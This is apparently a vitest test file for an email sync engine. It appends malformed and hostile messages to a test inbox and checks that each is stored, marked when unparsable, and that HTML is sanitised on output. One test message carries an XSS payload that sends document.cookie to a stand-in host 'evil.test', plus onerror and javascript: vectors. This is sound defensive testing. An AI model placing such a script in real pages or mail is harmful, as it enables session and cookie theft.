// A corpus of malformed and hostile messages APPENDed to judy's INBOX: the sync must store every one of
// them, keep what mailparser cannot parse as raw source marked with parseError, and never crash or stall.
import { randomBytes } from 'node:crypto'
import { beforeAll, expect, it } from 'vitest'
import { peek, status, syncedEngine, waitState } from './inboxHelpers'
import { ensureMailServers, resetMailbox, waitFor, withImap } from './servers'

beforeAll(async () => {
  await ensureMailServers()
  await resetMailbox('judy', { deleteFolders: true })
}, 600_000)

const H = (id: string, extra = '') => `From: Sender <sender@example.test>\r\nTo: judy@example.test\r\nSubject: hostile ${id}\r\nMessage-ID: <hostile-${id}@example.test>\r\nDate: Mon, 5 Jan 2026 09:00:00 +0000\r\n${extra}`

function nested(depth: number): string {
  let body = 'Content-Type: text/plain\r\n\r\ninnermost\r\n'
  for (let i = depth; i > 0; i--) body = `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n${body}--b${i}--\r\n`
  return body
}

function manyParts(n: number): string {
  let s = 'Content-Type: multipart/mixed; boundary="mp"\r\n\r\n'
  for (let i = 0; i < n; i++) s += `--mp\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`
  return `${s}--mp--\r\n`
}

const garbage = () => {
  const b = randomBytes(20_000)
  for (let i = 0; i < b.length; i++) if (b[i] === 0) b[i] = 1 // IMAP literals may not carry NUL
  return b
}

// id → source; ids are also the subjects, so each can be found again.
const corpus: Array<[string, string | Buffer]> = [
  ['broken-boundary', H('broken-boundary', 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="never-closed"\r\n\r\n') + '--never-closed\r\nContent-Type: text/plain\r\n\r\nno closing boundary and\r\n--wrong-boundary\r\ngarbage'],
  ['no-boundary-param', H('no-boundary-param', 'Content-Type: multipart/alternative\r\n\r\n') + '--x\r\nContent-Type: text/plain\r\n\r\nhello\r\n--x--\r\n'],
  ['huge-header', H('huge-header', `X-Huge: ${'A'.repeat(1_500_000)}\r\n\r\n`) + 'body after a 1.5 MB header\r\n'],
  ['many-headers', H('many-headers', Array.from({ length: 5000 }, (_, i) => `X-Header-${i}: value ${i}\r\n`).join('') + '\r\n') + 'five thousand headers\r\n'],
  ['bad-charset', H('bad-charset', 'Content-Type: text/plain; charset="x-no-such-charset"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n') + 'caf\xe9 na\xefve \xff\xfe\r\n'],
  ['bad-encoded-word', H('bad-encoded-word').replace('Subject: hostile bad-encoded-word', 'Subject: =?x-bogus?B?!!!notbase64?= hostile bad-encoded-word =?utf-8?Q?=ZZ?=') + '\r\nbody\r\n'],
  ['invalid-utf8', H('invalid-utf8', 'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n') + '\xc3\x28 \xa0\xa1 \xe2\x28\xa1 invalid utf-8\r\n'],
  ['deep-nesting', H('deep-nesting', 'MIME-Version: 1.0\r\n') + nested(120)],
  ['too-many-parts', H('too-many-parts', 'MIME-Version: 1.0\r\n') + manyParts(1500)],
  ['script-html', H('script-html', 'Content-Type: text/html; charset=utf-8\r\n\r\n') + '<html><body onload="steal()"><script>fetch("https://evil.test/"+document.cookie)</script><img src=x onerror=alert(1)><a href="javascript:alert(2)">click</a><iframe src="https://evil.test"></iframe><p>visible text</p></body></html>\r\n'],
  ['bad-base64', H('bad-base64', 'Content-Type: multipart/mixed; boundary="bb"\r\n\r\n') + '--bb\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n--bb\r\nContent-Type: application/pdf; name="x.pdf"\r\nContent-Disposition: attachment; filename="x.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%%not base64 at all$$$$\r\n--bb--\r\n'],
  ['bad-date-and-from', 'From: <<<@@@>>>\r\nTo: ;;;\r\nDate: yesterday-ish\r\nSubject: hostile bad-date-and-from\r\nMessage-ID: <hostile-bad-date-and-from@example.test>\r\n\r\nbody\r\n'],
  ['no-headers', '\r\njust a body with no headers at all\r\n'],
  ['binary-garbage', garbage()],
  ['raw-8bit-headers', Buffer.from(H('raw-8bit-headers').replace('Sender <', 'S\u00e9nder \u4e2d\u6587 <') + '\r\nbody\r\n', 'utf8')],
]

it('syncs a hostile corpus with no crash: every message stored, unparsable ones raw and marked', async () => {
  await withImap('judy', async (c) => {
    for (const [, src] of corpus) await c.append('INBOX', typeof src === 'string' ? Buffer.from(src, 'latin1') : src)
  })
  const appended = await withImap('judy', async (c) => (await c.mailboxOpen('INBOX')).exists)
  expect(appended).toBe(corpus.length)

  const { t, mailbox } = await syncedEngine('judy')
  const rows = () =>
    peek<{ id: number; subject: string; parse_error: string | null; raw: Buffer | null; html: string | null }>(
      t,
      'SELECT m.id, m.subject, m.parse_error, b.raw, b.html FROM messages m JOIN message_bodies b ON b.message_id = m.id WHERE m.mailbox_id = ?',
      mailbox.id,
    )
  await waitFor(() => rows().length === corpus.length, { timeoutMs: 30_000, message: 'every message stored' })
  await waitState(t, mailbox.id, 'idle')
  const s = await status(t, mailbox.id)
  expect(s.error).toBeNull()

  const all = rows()
  // Accounted for: one row per appended message, the named ones findable by subject.
  for (const [id] of corpus) {
    if (id === 'no-headers' || id === 'binary-garbage') continue
    expect(all.some((r) => r.subject.includes(`hostile ${id}`)), id).toBe(true)
  }
  // Unparsable: marked, with the raw source kept byte for byte.
  const marked = all.filter((r) => r.parse_error !== null)
  for (const r of marked) expect(r.raw && r.raw.length, r.subject).toBeGreaterThan(0)
  const bySubject = (id: string) => all.find((r) => r.subject.includes(`hostile ${id}`))!
  expect(bySubject('huge-header').parse_error).not.toBeNull()
  expect(bySubject('too-many-parts').parse_error).not.toBeNull()
  expect(marked.length).toBeGreaterThanOrEqual(3) // huge header, too many parts, no headers / garbage
  const noHeaders = all.filter((r) => r.subject === '')
  expect(noHeaders.length).toBe(2)
  expect(noHeaders.every((r) => r.parse_error !== null && r.raw !== null)).toBe(true)

  // The script-laden HTML is stored as sent, and comes out of messages.get sanitised.
  const script = bySubject('script-html')
  expect(script.html).toContain('<script>')
  const detail = await t.ok('messages.get', { id: script.id })
  expect(detail.html).toContain('visible text')
  expect(detail.html).not.toMatch(/<script|onerror|onload|javascript:|<iframe/i)

  // The engine still answers and a later, ordinary message still flows.
  await withImap('judy', (c) => c.append('INBOX', Buffer.from(H('after') + '\r\nnormal mail after the storm\r\n')))
  await t.ok('mailboxes.sync', { mailboxId: mailbox.id })
  await waitFor(() => rows().some((r) => r.subject === 'hostile after' && r.parse_error === null), { timeoutMs: 10_000 })
}, 120_000)
